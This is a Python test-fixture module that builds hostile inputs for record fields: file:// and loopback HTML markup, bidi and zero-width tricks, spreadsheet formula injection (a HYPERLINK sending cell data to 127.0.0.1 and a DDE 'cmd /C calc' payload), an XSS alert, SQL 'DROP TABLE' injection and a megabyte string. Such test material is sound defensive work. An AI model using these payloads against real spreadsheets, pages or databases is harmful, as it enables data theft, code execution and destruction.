"""What somebody may write into any field: markup that reaches for files and the network, tricks with direction and
width, formulas, a megabyte. Each text carries a mark, by which it is found and recognised wherever it turns up."""

from __future__ import annotations

import random
from collections.abc import Mapping
from datetime import datetime
from functools import cache
from pathlib import Path
from typing import Any
from uuid import UUID

from agentdesk.core.intake.records import (
    AnyRecord,
    CustomerRecord,
    CustomerRef,
    NoteRecord,
    OrderLineRecord,
    OrderRecord,
    ProductRecord,
)
from tests.desks import NOON
from tests.promises.arguments import Inventor, Schema

MARK = "zzmark"
MEGABYTE = 1_000_000


def hostile_words(planted: Path) -> list[str]:
    """By number: `mark(n)` is in the n-th. `planted` is a folder of files which nobody may open."""
    file, sheet = planted / "p.png", planted / "p.css"
    texts = [
        f'<img src="file://{file}">{{}}',
        f"{{}} <img src='{file}'><b>fat</b>",
        f'<link rel="stylesheet" href="file://{sheet}"><p>{{}}</p>',
        f'{{}}<table background="file://{file}"><tr><td>x</td></tr></table>',
        '<img src="http://127.0.0.1:9/p.png">{}',
        f'<a href="file://{file}">{{}}</a>',
        f"<style>p{{{{background-image:url(file://{file})}}}}</style><p>{{}}",
        f"<html><body background='file://{file}'>{{}}</body></html>",
        "\u202e{} \u2066evil\u2069",
        "{}\u200b\u200d\ufeff Zo\u0308e\u0308",
        '=HYPERLINK("http://127.0.0.1:9/?x="&A1;"{}")',
        "@SUM(1+1)*cmd|' /C calc'!A0 {}",
        "+{}-2+3",
        "-{}\t=1",
        "{} {{customer.name}} {{}} %s %n \\u0000 &lt;b&gt;",
        "{} " + "x" * MEGABYTE,
        "{}\nzweite Zeile\r\n\u2028dritte",
        "{} \U0001f469\u200d\U0001f52c ﷽ Z̷a̷l̷g̷o̷",
        "<!DOCTYPE html>{}<script>alert(1)</script>",
        "{}';DROP TABLE customers;--",
    ]
    return [
        text.replace("{{}}", "\0open\0").replace("{}", mark(n)).replace("\0open\0", "{}")
        for n, text in enumerate(texts)
    ]


def mark(n: int) -> str:
    return f"{MARK}{n:02}"


class _Everything:
    """No ids are needed in records."""

    def some_id(self, argument: str, chance: random.Random) -> UUID | None:
        return None

    @property
    def now(self) -> datetime:
        return NOON


class Filler(Inventor):
    """Fills every field that takes words with these, as far as they fit."""

    def __init__(self, words: str) -> None:
        super().__init__(random.Random(1), _Everything(), nasty=0)
        self._words = words

    def _text(self, name: str) -> str:
        return self._words

    def _string(self, schema: Schema, name: str) -> str:
        if schema.get("format") or schema.get("pattern"):
            return super()._string(schema, name)
        return self._words[: schema.get("maxLength", len(self._words))]

    def _array(self, schema: Schema, name: str, definitions: Schema) -> list[Any]:
        return [self._value(schema.get("items", {}), name.removesuffix("s"), definitions)]

    def _object(self, schema: Schema, definitions: Schema) -> dict[str, Any]:
        properties: Mapping[str, Any] = schema.get("properties", {})
        return {name: self._value(inner, name, definitions) for name, inner in properties.items()}


def hostile_records(words: list[str]) -> dict[str, list[tuple[int, AnyRecord]]]:
    """For each kind of record, one with each text in every field; they refer to each other by plain numbers."""
    found: dict[str, list[tuple[int, AnyRecord]]] = {
        name: [] for name in ("customers", "orders", "lines", "products", "notes")
    }
    for n, text in enumerate(words):
        filler = Filler(text)
        whom = {"customer_ref": CustomerRef(number=f"K{n}", name=text[:200])}
        email = f"{mark(n)}@example.org"
        customer = _filled(filler, CustomerRecord, number=f"K{n}", emails=({"address": email, "label": text[:200]},))
        order = _filled(filler, OrderRecord, number=f"B{n}", customer=None, **whom, total="1.00", currency="EUR")
        found["customers"].append((n, customer))
        found["orders"].append((n, order))
        found["lines"].append(
            (n, _filled(filler, OrderLineRecord, order_number=f"B{n}", quantity="1", unit_price="2.00"))
        )
        found["products"].append((n, _filled(filler, ProductRecord, sku=f"P{n}")))
        found["notes"].append((n, _filled(filler, NoteRecord, **whom, order_number=f"B{n}", at="2026-11-20T10:00:00Z")))
    return found


def _filled(filler: Filler, record: Any, **sure: Any) -> Any:
    """Amounts and moments are left empty: what they refuse is no business of words."""
    schema = _schema(record)
    values = filler.arguments(schema)
    plain = {name: value for name, value in values.items() if _takes_words(schema["properties"][name])}
    return record.model_validate({**plain, "doubts": (), **sure})


@cache
def _schema(record: Any) -> dict[str, Any]:
    made: dict[str, Any] = record.model_json_schema()
    return made


def _takes_words(schema: Mapping[str, Any]) -> bool:
    return schema.get("type") == "array" or (schema.get("type") == "string" and "pattern" not in schema)
